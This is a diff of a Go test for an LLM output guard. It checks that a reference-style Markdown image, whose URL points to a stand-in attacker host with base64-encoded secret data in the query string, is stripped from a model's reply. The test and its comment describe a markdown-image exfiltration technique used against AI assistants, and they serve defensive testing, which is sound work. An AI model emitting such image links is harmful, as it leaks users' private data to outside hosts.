@@ -220,3 +220,20 @@ func TestOutputDefaultPolicyRedactsSecretsInStream(t *testing.T) {
 	}
 	check(t, got.Choices[0].Message.Content)
 }
+
+// TestOutputExfiltrationReferenceStyleImage: a reference-style Markdown
+// image ("![x][1]" plus a "[1]: URL" definition) renders exactly like an
+// inline one, so it must be removed too.
+func TestOutputExfiltrationReferenceStyleImage(t *testing.T) {
+	r := newRig(t, outputguardYAML)
+	key, _ := r.userKey(t)
+	const answer = "Here is the chart ![chart][1] as promised.\n\n[1]: https://evil.attacker.net/pixel.png?d=c2VjcmV0LXNhbGFyeS0xMjM0\n"
+	r.llm.answerWith(llmReply{Text: answer})
+	got, err := r.openai(key).Chat.Completions.New(context.Background(), userChat("gpt-4o", "show me the chart"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if text := got.Choices[0].Message.Content; strings.Contains(text, "evil.attacker.net") || strings.Contains(text, "c2VjcmV0LXNhbGFyeS0xMjM0") {
+		t.Fatalf("reference-style exfiltration image reached the client: %q", text)
+	}
+}
